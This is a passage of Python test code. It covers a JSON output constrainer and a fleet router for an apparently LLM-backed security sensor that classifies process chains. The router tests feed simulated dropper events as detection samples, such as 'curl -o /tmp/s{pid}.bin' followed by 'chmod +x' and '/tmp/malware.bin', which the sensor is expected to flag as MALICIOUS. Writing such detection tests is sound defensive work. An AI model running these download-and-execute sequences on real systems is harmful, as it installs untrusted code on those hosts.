        doc = json.dumps(gen())
        assert complete(doc), doc


def test_fuzz_mutations_agree_with_oracle():
    """Random single-byte mutations: if validator accepts a full doc as
    complete, json.loads must parse it."""
    rng = random.Random(1)
    base = '{"risk_score": 8, "verdict": "SAFE", "reason": "ok", "xs": [1, 2.0, null]}'
    chars = '{}[]",:0123456789.eE+-truefalsnl \\"'
    for _ in range(500):
        s = list(base)
        for _ in range(rng.randrange(1, 4)):
            s[rng.randrange(len(s))] = rng.choice(chars)
        mut = "".join(s)
        if complete(mut):
            json.loads(mut)  # must not raise


# ---------------------------------------------------------------------------
# token-level constrainer
# ---------------------------------------------------------------------------
def test_constrained_generation_always_parses():
    """Greedy decode with random logits under the constrainer must yield
    parseable JSON, for several seeds."""
    tok = ByteTokenizer()
    for seed in range(5):
        rng = np.random.default_rng(seed)
        c = JsonConstrainer(tok, max_candidates=32)
        out = []
        for _ in range(200):
            logits = rng.normal(size=tok.vocab_size).astype(np.float32)
            if c.complete:
                logits[tok.eos_id] += 100.0  # bias toward stopping once legal
            masked = c.constrain_logits(logits)
            nxt = int(np.argmax(masked))
            if nxt in tok.stop_ids:
                assert c.complete
                break
            assert c.advance(nxt)
            out.append(nxt)
        text = tok.decode(out)
        if not c.complete:
            # budget exhausted mid-document: engine appends the closing
            # suffix so clients still get valid JSON
            text += c.v.closing_suffix().decode()
        json.loads(text)  # must parse


def test_closing_suffix_from_any_prefix():
    """closing_suffix must make every live prefix of valid docs parse."""
    for doc in VALID_DOCS:
        data = doc.encode()
        for i in range(len(data) + 1):
            v = JsonPrefixValidator()
            assert v.feed_bytes(data[:i])
            closed = data[:i] + v.closing_suffix()
            # engine decodes with errors="replace" (truncation may split a
            # UTF-8 multibyte char), then the text must parse as JSON
            json.loads(closed.decode("utf-8", errors="replace"))


def test_constrainer_blocks_stop_until_complete():
    tok = ByteTokenizer()
    c = JsonConstrainer(tok)
    assert not c.token_allowed(tok.eos_id)
    for b in b'{"a": 1}':
        assert c.advance(b)
    assert c.complete
    assert c.token_allowed(tok.eos_id)


def test_constrainer_memo_consistency():
    tok = ByteTokenizer()
    c = JsonConstrainer(tok)
    ids = list(range(256))
    m1 = c.mask_candidates(ids)
    m2 = c.mask_candidates(ids)  # memoized path
    np.testing.assert_array_equal(m1, m2)
    assert m1[ord('{')] and m1[ord('[')] and m1[ord('"')] and m1[ord('3')]
    assert not m1[ord('}')] and not m1[ord(',')]


def test_require_object_root():
    v = JsonPrefixValidator(require_object=True)
    assert not v.copy().feed_bytes(b"1")
    assert not v.copy().feed_bytes(b'"s"')
    assert not v.copy().feed_bytes(b"[1]")
    v2 = JsonPrefixValidator(require_object=True)
    assert v2.feed_bytes(b'  {"a": [1, "x"]}')
    assert v2.complete
    tok = ByteTokenizer()
    c = JsonConstrainer(tok, require_object=True)
    m = c.mask_candidates(list(range(256)))
    assert m[ord("{")] and not m[ord("[")] and not m[ord("1")]
