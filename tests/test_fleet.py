"""Fleet router acceptance tests.

Three layers, mirroring the subsystem:

* affinity primitives — chain_key stability as chains grow, consistent
  hashing (removal remaps only the dead node's arc), LRU affinity table
  with forget-on-death;
* router over real in-process replicas — Ollama wire identity both
  directions, affinity routing, spill-over on 429/backpressure, drain,
  health-gated readiness, stream relay, unrouteable 503 + Retry-After,
  and verdict byte-identity vs a routing-free single backend;
* chaos (the tier-1 keystone) — kill one replica mid-load and assert
  its breaker opens, chains spill to the survivors, and ZERO chains are
  lost end-to-end through the real sensor pipeline.
"""
import json
import time
import urllib.error
import urllib.request

import pytest

from chronos_trn.config import FleetConfig, SensorConfig, ServerConfig
from chronos_trn.fleet.affinity import AffinityTable, HashRing, chain_key
from chronos_trn.fleet.pool import ReplicaPool
from chronos_trn.fleet.router import (
    ESCALATE_MALFORMED,
    ESCALATE_RISK,
    REASON_AFFINITY,
    REASON_ESCALATE,
    REASON_REBALANCE,
    REASON_SPILL,
    FleetRouter,
)
from chronos_trn.obs.slo import SLOSpec
from chronos_trn.sensor.client import (
    AnalysisClient,
    KillChainMonitor,
    build_verdict_prompt,
)
from chronos_trn.sensor.events import EXEC, Event
from chronos_trn.sensor.resilience import CircuitBreaker, UrllibTransport
from chronos_trn.serving.backends import RemoteBackend
from chronos_trn.testing.faults import (
    HTTP_429,
    OK,
    TIMEOUT,
    Fault,
    FaultPlan,
    FaultyBrainServer,
)
from chronos_trn.utils.metrics import Metrics

pytestmark = pytest.mark.fleet

_NOSLEEP = lambda s: None  # noqa: E731

_CHAIN = ["[EXEC] bash -> /usr/bin/curl", "[EXEC] bash -> /usr/bin/chmod"]


# ---------------------------------------------------------------------------
# unit: chain identity
# ---------------------------------------------------------------------------
def test_chain_key_stable_as_chain_grows():
    # the whole point: event N's prompt maps to the same replica as
    # event 1's, even though the prompt itself keeps growing
    p1 = build_verdict_prompt(_CHAIN[:1])
    p2 = build_verdict_prompt(_CHAIN)
    p3 = build_verdict_prompt(_CHAIN + ["[EXEC] bash -> /tmp/malware.bin"])
    assert chain_key(p1) == chain_key(p2) == chain_key(p3)


def test_chain_key_distinct_across_chains():
    a = build_verdict_prompt(["[EXEC] bash -> /usr/bin/curl"])
    b = build_verdict_prompt(["[EXEC] sshd -> /usr/sbin/sshd"])
    assert chain_key(a) != chain_key(b)


def test_chain_key_fallback_without_marker():
    # non-verdict prompts (curl, /api/chat flattenings) hash a fixed
    # prefix: still deterministic, still per-conversation-head
    assert chain_key("hello world") == chain_key("hello world")
    assert chain_key("hello world") != chain_key("goodbye world")
    long = "x" * 300
    assert chain_key(long) == chain_key(long + "tail beyond the prefix")


# ---------------------------------------------------------------------------
# unit: consistent hashing
# ---------------------------------------------------------------------------
def test_hashring_deterministic_and_allowed_filter():
    ring = HashRing(["r0", "r1", "r2"])
    assert ring.node("some-key") == ring.node("some-key")
    assert ring.node("some-key", allowed={"r1"}) == "r1"
    assert ring.node("some-key", allowed=set()) is None
    assert HashRing().node("any") is None


def test_hashring_removal_remaps_only_the_dead_arc():
    ring = HashRing(["r0", "r1", "r2"])
    keys = [f"chain-{i}" for i in range(300)]
    before = {k: ring.node(k) for k in keys}
    assert len(set(before.values())) == 3  # vnodes spread the keyspace
    ring.remove("r1")
    after = {k: ring.node(k) for k in keys}
    moved = [k for k in keys if before[k] != after[k]]
    assert moved, "r1 owned some arc"
    assert all(before[k] == "r1" for k in moved)  # survivors keep theirs
    assert all(v != "r1" for v in after.values())


def test_hashring_add_remaps_only_the_new_arc():
    # scale-out twin of the removal test: admitting a node steals keys
    # FOR the new node only — no key moves between the incumbents, so
    # scale-out never shuffles affinity among replicas that stayed put
    ring = HashRing(["r0", "r1", "r2"])
    keys = [f"chain-{i}" for i in range(300)]
    before = {k: ring.node(k) for k in keys}
    ring.add("r3")
    after = {k: ring.node(k) for k in keys}
    moved = [k for k in keys if before[k] != after[k]]
    assert moved, "r3 claimed some arc"
    assert all(after[k] == "r3" for k in moved)
    assert "r3" in set(after.values())
    # determinism + inverse: removing r3 restores the exact pre-add map
    ring.remove("r3")
    assert {k: ring.node(k) for k in keys} == before


# ---------------------------------------------------------------------------
# unit: affinity table
# ---------------------------------------------------------------------------
def test_affinity_assign_lookup_scores_accumulate():
    t = AffinityTable()
    assert t.lookup("k") is None and t.scores("k") == {}
    t.assign("k", "r0", tokens=100)
    t.assign("k", "r0", tokens=50)
    t.assign("k", "r1", tokens=30)  # spilled once: r1 becomes affine
    assert t.lookup("k") == "r1"
    assert t.scores("k") == {"r0": 150, "r1": 30}


def test_affinity_lru_eviction_bounded():
    t = AffinityTable(max_chains=2)
    t.assign("a", "r0")
    t.assign("b", "r0")
    t.assign("a", "r0")  # touch: a is now most-recent
    t.assign("c", "r0")  # evicts b, the least-recent
    assert len(t) == 2
    assert t.lookup("b") is None
    assert t.lookup("a") == "r0" and t.lookup("c") == "r0"


def test_affinity_forget_backend_unassigns_and_drops_scores():
    t = AffinityTable()
    t.assign("k1", "r0", tokens=10)
    t.assign("k2", "r1", tokens=10)
    t.assign("k2", "r0", tokens=5)  # k2 affine to r0, score on both
    assert t.forget_backend("r0") == 2
    assert t.lookup("k1") is None and t.lookup("k2") is None
    assert t.scores("k2") == {"r1": 10}  # r1's holding survives


# ---------------------------------------------------------------------------
# router over real in-process replicas
# ---------------------------------------------------------------------------
def _fcfg(**kw):
    defaults = dict(
        probe_interval_s=0.0,  # membership is test-driven, no prober
        breaker_failure_threshold=2,
        breaker_open_duration_s=60.0,
        request_timeout_s=10.0,
        spill_queue_depth=8,
    )
    defaults.update(kw)
    return FleetConfig(**defaults)


@pytest.fixture()
def fleet2():
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    yield router, pool
    router.stop()
    pool.stop()


def _post(router, prompt, stream=False, timeout=10.0):
    return UrllibTransport().post_json(
        f"http://127.0.0.1:{router.port}/api/generate",
        {"model": "llama3", "prompt": prompt, "stream": stream,
         "format": "json"},
        timeout,
    )


def _verdict(body: bytes) -> dict:
    return json.loads(json.loads(body.decode())["response"])


def test_router_speaks_the_ollama_wire(fleet2):
    router, _ = fleet2
    import urllib.request
    base = f"http://127.0.0.1:{router.port}"
    assert urllib.request.urlopen(base + "/").read() == b"Ollama is running"
    tags = json.loads(urllib.request.urlopen(base + "/api/tags").read())
    assert tags["models"][0]["name"] == "llama3"
    ready = json.loads(urllib.request.urlopen(base + "/healthz/ready").read())
    assert ready["ready"] and ready["backends"] == 2
    status, _, body = _post(router, build_verdict_prompt(_CHAIN))
    assert status == 200
    assert _verdict(body)["verdict"] == "MALICIOUS"


def test_router_affinity_keeps_growing_chain_on_one_replica(fleet2):
    router, _ = fleet2
    history = list(_CHAIN)
    status, _, _ = _post(router, build_verdict_prompt(history))
    assert status == 200
    counts = router.routed_counts()
    assert sum(counts.values()) == 1
    ((first_backend, first_reason),) = counts.keys()
    assert first_reason == REASON_REBALANCE  # new chain: ring placement
    for _ in range(3):  # the chain grows; every event re-routes home
        history.append("[EXEC] bash -> /tmp/malware.bin")
        status, _, _ = _post(router, build_verdict_prompt(history))
        assert status == 200
    counts = router.routed_counts()
    assert counts[(first_backend, REASON_AFFINITY)] == 3
    assert router.status()["spillovers"] == 0


def test_router_verdicts_byte_identical_to_single_backend(fleet2):
    # acceptance criterion: routing must not change WHAT is answered,
    # only WHERE it's computed
    router, pool = fleet2
    payload = {"model": "llama3", "prompt": build_verdict_prompt(_CHAIN),
               "stream": False, "format": "json"}
    t = UrllibTransport()
    _, _, via_router = t.post_json(
        f"http://127.0.0.1:{router.port}/api/generate", payload, 10.0)
    _, _, direct = t.post_json(
        pool[0].url + "/api/generate", payload, 10.0)
    routed = json.loads(via_router.decode())
    single = json.loads(direct.decode())
    assert routed["response"].encode() == single["response"].encode()


def test_router_stream_relay_preserves_ndjson_shape(fleet2):
    router, _ = fleet2
    status, headers, body = _post(
        router, build_verdict_prompt(_CHAIN), stream=True)
    assert status == 200
    assert "ndjson" in headers.get("Content-Type", "")
    lines = [json.loads(l) for l in body.splitlines() if l.strip()]
    assert lines, "stream relayed at least one chunk"
    assert lines[-1]["done"] is True
    joined = "".join(l.get("response", "") for l in lines)
    assert json.loads(joined)["verdict"] == "MALICIOUS"


def test_router_drain_excludes_replica_and_restores_on_undrain(fleet2):
    router, _ = fleet2
    history = list(_CHAIN)
    _post(router, build_verdict_prompt(history))
    ((home, _),) = router.routed_counts().keys()
    other = "r1" if home == "r0" else "r0"
    # admin wire: drain the chain's home replica
    status, _, body = UrllibTransport().post_json(
        f"http://127.0.0.1:{router.port}/fleet/drain",
        {"backend": home}, 5.0)
    assert status == 200 and json.loads(body.decode())["draining"] is True
    history.append("[EXEC] bash -> /tmp/malware.bin")
    status, _, _ = _post(router, build_verdict_prompt(history))
    assert status == 200  # the chain kept flowing through the sibling
    assert any(b == other for (b, _r) in router.routed_counts())
    assert router.backend(home).draining
    # the routed request re-homed the chain: the sibling's cache is now
    # the warm one, so after un-drain the chain STAYS there (affinity
    # follows the cache, not the admin state)
    router.drain_backend(home, draining=False)
    assert not router.backend(home).draining
    history.append("[EXEC] bash -> /tmp/malware.bin")
    _post(router, build_verdict_prompt(history))
    assert router.routed_counts().get((other, REASON_AFFINITY), 0) >= 1


def test_router_spills_on_429_and_arms_backpressure_gate():
    # affine replica answers 429 + Retry-After: this request spills to
    # the sibling, and the gate keeps later requests off the replica
    # until the window passes — without tripping its breaker
    faulty = FaultyBrainServer(
        FaultPlan(default=Fault(HTTP_429, retry_after_s=30.0))).start()
    pool = ReplicaPool.heuristic(1).start()
    fcfg = _fcfg()
    busy = RemoteBackend(
        "busy", f"http://127.0.0.1:{faulty.port}",
        failure_threshold=fcfg.breaker_failure_threshold,
        open_duration_s=fcfg.breaker_open_duration_s,
        request_timeout_s=fcfg.request_timeout_s,
    )
    router = FleetRouter(
        [busy] + pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        prompt = build_verdict_prompt(_CHAIN)
        # force the chain's affinity onto the busy replica
        router._affinity.assign(chain_key(prompt), "busy", tokens=100)
        status, _, body = _post(router, prompt)
        assert status == 200
        assert _verdict(body)["verdict"] == "MALICIOUS"
        st = router.status()
        assert st["spillovers"] == 1
        assert st["routed"] == {"r0/spill": 1}
        assert not busy.allow()  # Retry-After gate armed...
        assert busy.breaker.state == "closed"  # ...but 429 is not failure
        # the chain's new home is the replica that actually served it
        status, _, _ = _post(router, prompt)
        assert status == 200
        assert router.routed_counts()[("r0", REASON_AFFINITY)] == 1
    finally:
        router.stop()
        pool.stop()
        faulty.stop()


def test_router_unrouteable_is_503_with_retry_after():
    # every backend dead: the router must answer exactly like one
    # overloaded brain — JSON error + Retry-After — so the sensor
    # spools instead of losing the chain
    fcfg = _fcfg()
    dead = RemoteBackend("dead", "http://127.0.0.1:1",
                         request_timeout_s=0.5)
    router = FleetRouter(
        [dead], fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0, retry_after_s=2.5),
    ).start()
    try:
        status, headers, body = _post(router, build_verdict_prompt(_CHAIN))
        assert status == 503
        assert headers.get("Retry-After") == "2.5"
        assert "error" in json.loads(body.decode())
        assert router.status()["unrouteable"] == 1
    finally:
        router.stop()


def test_probe_marks_dead_replica_down_and_forgets_affinity():
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        router.probe_once()
        st = router.status()
        assert all(b["up"] for b in st["backends"].values())
        prompt = build_verdict_prompt(_CHAIN)
        _post(router, prompt)
        ((home, _),) = router.routed_counts().keys()
        pool.kill(home)
        router.probe_once()
        st = router.status()
        assert st["backends"][home]["up"] is False
        # the dead replica's cache died with it: the chain was unassigned
        assert st["affinity_chains"] >= 1
        assert router._affinity.lookup(chain_key(prompt)) is None
        # readiness degrades but holds while a survivor remains
        ready = json.loads(
            UrllibTransport().post_json(  # POST body ignored by GET? no —
                f"http://127.0.0.1:{router.port}/api/generate",
                {"model": "llama3", "prompt": prompt, "stream": False,
                 "format": "json"}, 10.0)[2].decode())
        assert "response" in ready  # still serving through the survivor
    finally:
        router.stop()
        pool.stop()


# ---------------------------------------------------------------------------
# observability plane: federation + stitched traces on the wire
# ---------------------------------------------------------------------------
def test_fleet_metrics_federates_with_backend_labels(fleet2):
    """GET /fleet/metrics must merge the router's registry with both
    replicas' scrapes into ONE valid exposition, per-replica samples
    distinguished by a backend label."""
    from tests.test_trace import _validate_exposition

    router, _ = fleet2
    status, _, _ = _post(router, build_verdict_prompt(_CHAIN))
    assert status == 200
    out = urllib.request.urlopen(
        f"http://127.0.0.1:{router.port}/fleet/metrics").read().decode()
    fams = _validate_exposition(out)
    # router-side families and replica-scraped ones share the document
    assert "chronos_router_generate_requests" in fams
    assert "chronos_slo_burn" in fams  # the read evaluated the engine
    assert 'backend="r0"' in out and 'backend="r1"' in out
    assert "nan" not in out.lower()


def test_fleet_debug_trace_returns_one_stitched_causal_tree(fleet2):
    """GET /fleet/debug/trace?id= must return router.route and the
    replica's server.generate merged into one tree: the replica span
    parents off the router span and nests inside its wall interval."""
    from chronos_trn.utils import trace as trace_lib

    router, _ = fleet2
    trace_lib.GLOBAL.enabled = True
    before = {s["span_id"] for s in trace_lib.GLOBAL.spans()
              if s["name"] == "router.route"}
    status, _, _ = _post(router, build_verdict_prompt(_CHAIN))
    assert status == 200
    # router.route closes AFTER the response bytes reach the client, so
    # the span may land in the ring a beat after _post returns
    route, deadline = None, time.monotonic() + 5.0
    while route is None and time.monotonic() < deadline:
        new = [s for s in trace_lib.GLOBAL.spans()
               if s["name"] == "router.route" and s["span_id"] not in before]
        if new:
            route = max(new, key=lambda s: s["start"])
        else:
            time.sleep(0.01)
    assert route is not None, "the routed request recorded a router.route span"
    tid = route["trace_id"]
    doc = json.loads(urllib.request.urlopen(
        f"http://127.0.0.1:{router.port}/fleet/debug/trace?id={tid}"
    ).read())
    assert doc["stitched"] is True and doc["trace_id"] == tid
    names = [s["name"] for s in doc["spans"]]
    assert "router.route" in names and "server.generate" in names
    by_id = {s["span_id"]: s for s in doc["spans"]}
    gen = next(s for s in doc["spans"] if s["name"] == "server.generate")
    # causal link: traceparent propagation parented the replica span
    # off router.route, and the merged timeline nests it inside
    assert gen["parent_id"] in by_id
    assert by_id[gen["parent_id"]]["name"] == "router.route"
    parent = by_id[gen["parent_id"]]
    # the child starts inside the parent's interval; its END is not
    # strictly contained — the replica closes server.generate after its
    # response bytes hit the socket, and the router can read those bytes
    # and close router.route a few hundred us earlier (handler-teardown
    # race across threads), so give the tail scheduler-sized slack
    assert gen["wall_start"] >= parent["wall_start"]
    assert (gen["wall_start"]
            <= parent["wall_start"] + parent["duration_s"] + 1e-6)
    assert (gen["wall_start"] + gen["duration_s"]
            <= parent["wall_start"] + parent["duration_s"] + 0.25)
    # in-process replicas share the router's clock: zero skew per hop
    assert all(abs(off) < 1e-9 for off in doc["hops"].values())


def test_fleet_debug_trace_wire_errors(fleet2):
    router, _ = fleet2
    base = f"http://127.0.0.1:{router.port}/fleet/debug/trace"
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(base)  # no id
    assert e.value.code == 400
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(base + "?id=" + "f" * 32)
    assert e.value.code == 404


# ---------------------------------------------------------------------------
# chaos (tier-1): replica killed mid-load, zero chains lost
# ---------------------------------------------------------------------------
def _trigger_chain(mon, pid):
    # argv varies per chain: Event.format() carries no pid, and two
    # chains with byte-identical first events ARE one chain to the
    # router (same prompt prefix, same cache) — the fleet needs many
    # distinct chains to spread
    mon.on_event(Event(pid, "bash", f"/usr/bin/curl -o /tmp/s{pid}.bin", EXEC))
    mon.on_event(Event(pid, "bash", f"/usr/bin/chmod +x /tmp/s{pid}.bin", EXEC))


def test_replica_death_mid_load_spills_chains_zero_lost():
    """The keystone: a 2-replica fleet loses one replica mid-load.  The
    dead replica's breaker opens, in-flight and new chains spill to the
    survivor, the spill-storm burn-rate alert fires at /fleet/alerts,
    and the sensor pipeline ends with every triggered chain answered by
    a genuine verdict — none lost, none ERROR."""
    fcfg = _fcfg(breaker_failure_threshold=2)
    pool = ReplicaPool.heuristic(1).start()  # the survivor ("r0")
    faulty = FaultyBrainServer(FaultPlan(default=Fault(OK))).start()
    doomed = RemoteBackend(
        "doomed", f"http://127.0.0.1:{faulty.port}",
        failure_threshold=fcfg.breaker_failure_threshold,
        open_duration_s=fcfg.breaker_open_duration_s,
        request_timeout_s=fcfg.request_timeout_s,
    )
    # the drill's SLO: the registry is process-global and other tests'
    # requests share its sliding windows, so the objective is tightened
    # until a handful of spills among this suite's traffic is an
    # unambiguous storm in BOTH windows
    spill_slo = SLOSpec(
        name="spill_rate", kind="ratio", objective=0.005,
        bad="router_spillovers_total", total="router_generate_requests",
        windows=(5.0, 60.0),
    )
    router = FleetRouter(
        [doomed] + pool.remote_backends(fcfg), fleet_cfg=fcfg,
        slo_specs=(spill_slo,),
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    cfg = SensorConfig(
        server_url=f"http://127.0.0.1:{router.port}/api/generate",
        http_timeout_s=5.0,
        retry_max_attempts=2,
        retry_backoff_base_s=0.001,
        retry_backoff_cap_s=0.002,
        breaker_failure_threshold=99,  # the ROUTER absorbs replica loss;
        spool_drain_interval_s=0,      # the sensor should never notice
    )
    client = AnalysisClient(
        cfg, transport=UrllibTransport(),
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()), sleep=_NOSLEEP,
    )
    mon = KillChainMonitor(cfg, client=client, alert_fn=lambda s: None)

    def _key(pid):
        return chain_key(build_verdict_prompt(
            [f"[EXEC] bash -> /usr/bin/curl -o /tmp/s{pid}.bin"]))

    triggered = 0
    try:
        # phase 1: healthy fleet — route chains (ring placement is
        # deterministic hashing, so walk pids) until the doomed replica
        # is home to at least breaker_failure_threshold chains and the
        # survivor took load too
        pid = 100
        doomed_pids = []
        while pid < 6100:
            _trigger_chain(mon, pid)
            triggered += 1
            if router._affinity.lookup(_key(pid)) == "doomed":
                doomed_pids.append(pid)
            pid += 100
            counts = router.routed_counts()
            if (len(doomed_pids) >= fcfg.breaker_failure_threshold
                    and any(b == "r0" for (b, _r) in counts)):
                break
        assert len(doomed_pids) >= fcfg.breaker_failure_threshold
        assert any(b == "r0" for (b, _r) in router.routed_counts())
        assert len(mon.spool) == 0
        # phase 2: the doomed replica dies abruptly (connection drops,
        # no 'goodbye') while its home chains keep producing events —
        # each one routes home first, hits the dead wire, and spills to
        # the survivor within the same request
        faulty.plan.default = Fault(TIMEOUT)
        for p in doomed_pids:
            _trigger_chain(mon, p)
            triggered += 1
        assert doomed.breaker.state == "open", "dead replica's breaker opened"
        st = router.status()
        assert st["spillovers"] >= len(doomed_pids)
        assert st["routed"].get("r0/spill", 0) >= len(doomed_pids)
        # phase 3: with the breaker open the router stops even trying
        # the corpse — new chains flow straight to the survivor
        for _ in range(3):
            _trigger_chain(mon, pid)
            triggered += 1
            pid += 100
        st = router.status()
        assert st["unrouteable"] == 0
        # the spill storm must trip the multi-window burn-rate alert on
        # the wire: burn > threshold in the 5 s AND 60 s windows
        alerts = json.loads(urllib.request.urlopen(
            f"http://127.0.0.1:{router.port}/fleet/alerts").read())
        assert "spill_rate" in alerts["firing"]
        row = next(r for r in alerts["slos"] if r["slo"] == "spill_rate")
        assert row["firing"]
        assert all(b > row["burn_threshold"] for b in row["burn"].values())
        assert "spill_rate" in alerts["summary"]
        # the end-to-end contract: every triggered chain got a genuine
        # verdict through the fleet — zero lost, zero spooled, zero ERROR
        genuine = [v for v in mon.verdicts if v.get("verdict") != "ERROR"]
        assert len(mon.verdicts) == triggered
        assert len(genuine) == triggered
        assert len(mon.spool) == 0
    finally:
        mon.close()
        router.stop()
        pool.stop()
        faulty.stop()


# ---------------------------------------------------------------------------
# model-tier cascade: escalation keeps the chain's 1B home
# ---------------------------------------------------------------------------
# Raw event text, NOT build_verdict_prompt: the template's preamble itself
# names curl/chmod/execution, so the heuristic scorer would flag every
# templated prompt as a dropper regardless of the chain.  The first line
# carries >256 chars so the router's fallback chain_key prefix is identical
# at every depth — the chain keeps one identity as it grows, exactly like a
# real sensor's per-PID history.
_CASCADE_CHAIN = [
    "[EXEC] launcher -> /usr/bin/python3 /opt/agent/telemetry.py --session "
    + "a" * 220,
    "[EXEC] python3 -> /usr/bin/curl -o /tmp/mal.bin",
    "[EXEC] python3 -> /usr/bin/chmod 0755 /tmp/mal.bin",
]


def test_escalation_preserves_chain_affinity_on_1b_home():
    """Depth 1 is benign (single execution stage: triage risk 3 < gate);
    depths 2-3 cross escalate_risk — the 8B answers, but the chain's
    affinity record NEVER leaves the 1B front line: an escalation is a
    second opinion, not a migration."""
    fcfg = _fcfg()
    pool = ReplicaPool.heuristic(3, tiers=["1b", "1b", "8b"]).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        tier_of = {r.name: r.tier for r in pool.replicas}
        (eight_b,) = [n for n, t in tier_of.items() if t == "8b"]
        envs = []
        for depth in range(1, len(_CASCADE_CHAIN) + 1):
            status, _, body = _post(
                router, "\n".join(_CASCADE_CHAIN[:depth]))
            assert status == 200
            envs.append(json.loads(body.decode()))
        counts = router.routed_counts()
        homes = [b for (b, reason) in counts if reason == REASON_REBALANCE]
        assert len(homes) == 1
        home = homes[0]
        assert tier_of[home] == "1b"  # the front line owns new chains
        # growth stayed home; both escalations dispatched to the 8B
        assert counts[(home, REASON_AFFINITY)] == 2
        assert counts[(eight_b, REASON_ESCALATE)] == 2
        assert (eight_b, REASON_REBALANCE) not in counts
        # provenance survives the wire: triage answer stamped 1b, the
        # escalated answers stamped 8b with the why on the envelope
        assert envs[0]["model_tier"] == "1b"
        assert "escalated" not in envs[0]
        for env in envs[1:]:
            assert env["model_tier"] == "8b"
            assert env["escalated"] is True
            assert env["escalation_reason"] == ESCALATE_RISK
            assert json.loads(env["response"])["verdict"] == "MALICIOUS"
        cas = router.status()["cascade"]
        assert cas["active"] and cas["served"] == 3
        assert cas["escalated"] == 2
        assert cas["escalation_rate"] == round(2 / 3, 4)
    finally:
        router.stop()
        pool.stop()


def test_escalation_keeps_prefix_residency_on_1b_home(monkeypatch):
    """Tiny-model tiered fleet: the triage replica's replies are not
    parseable verdict JSON, so every chain event escalates (reason
    'malformed') — and after the 8B answers, the chain's prefix pages
    are still resident in the 1B home's KV cache.  This is the cascade's
    whole economy: the cheap tier keeps the warm prefix, the expensive
    tier only ever sees one-shot escalations."""
    import jax

    from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
    from chronos_trn.core import model as core_model
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    mcfg = ModelConfig.tiny()
    params = core_model.init_params(mcfg, jax.random.PRNGKey(0))
    ccfg = CacheConfig.for_slots(2, page_size=8, max_pages_per_seq=64)
    ecfg = EngineConfig(max_batch_slots=2, prefill_buckets=(16, 32, 64),
                        fused_decode=False, max_new_tokens=8,
                        prefix_cache=True, prefix_cache_pages=64)
    tok = ByteTokenizer(vocab_size=mcfg.vocab_size)
    pool = ReplicaPool.merge(
        ReplicaPool.model(1, params, mcfg, ccfg, ecfg, tokenizer=tok,
                          tier="1b"),
        ReplicaPool.model(1, params, mcfg, ccfg, ecfg, tokenizer=tok,
                          tier="8b"),
    ).start()
    pool.warmup()
    fcfg = _fcfg()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        prompt = ""
        for depth in (1, 2, 3):
            prompt = "\n".join(_CASCADE_CHAIN[:depth])
            status, _, body = _post(router, prompt, timeout=120.0)
            assert status == 200
            env = json.loads(body.decode())
            assert env["model_tier"] == "8b"
            assert env["escalated"] is True
            assert env["escalation_reason"] == ESCALATE_MALFORMED
        counts = router.routed_counts()
        assert counts[("1b-r0", REASON_AFFINITY)] == 2
        assert counts[("8b-r0", REASON_ESCALATE)] == 3
        # the KV home: the grown chain's prefix pages are resident on
        # the 1B replica that served every triage pass
        home_cache = pool.replicas[0].scheduler.engine.prefix_cache
        ids = tok.encode(prompt, bos=True)  # scheduler encodes bos=True
        assert home_cache.resident_chunks(ids) > 0
    finally:
        router.stop()
        pool.stop()


# ---------------------------------------------------------------------------
# router warm restart (snapshot durability, PR 17)
# ---------------------------------------------------------------------------
def test_router_snapshot_warm_restart_preserves_affinity(tmp_path):
    """A planned stop saves a parting snapshot; the next incarnation
    restores it and routes a grown chain back to its original home with
    REASON_AFFINITY — the restart is invisible to chain placement."""
    snap_path = str(tmp_path / "router.json")
    fcfg = _fcfg(snapshot_path=snap_path)
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    history = list(_CHAIN)
    try:
        status, _, _ = _post(router, build_verdict_prompt(history))
        assert status == 200
        ((home, _),) = router.routed_counts().keys()
    finally:
        router.stop()  # parting snapshot
        assert json.load(open(snap_path))["version"] == 1

    router2 = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        assert router2.status()["affinity_chains"] >= 1
        history.append("[EXEC] bash -> /tmp/malware.bin")
        status, _, _ = _post(router2, build_verdict_prompt(history))
        assert status == 200
        counts = router2.routed_counts()
        assert counts == {(home, REASON_AFFINITY): 1}  # same home, no ring re-roll
    finally:
        router2.stop(save_snapshot=False)
        pool.stop()


def test_router_snapshot_probe_before_trust_drops_dead_home(tmp_path):
    """Snapshot rows naming a backend that died during the restart are
    dropped at restore: chains re-home by ring placement onto observed-
    alive replicas instead of being routed at a corpse."""
    snap_path = str(tmp_path / "router.json")
    fcfg = _fcfg(snapshot_path=snap_path)
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        # spread enough distinct chains that both replicas own some
        for i in range(8):
            chain = [f"[EXEC] bash -> /usr/bin/tool{i}",
                     "[EXEC] bash -> /usr/bin/chmod"]
            assert _post(router, build_verdict_prompt(chain))[0] == 200
        assert router.status()["affinity_chains"] == 8
    finally:
        router.stop()

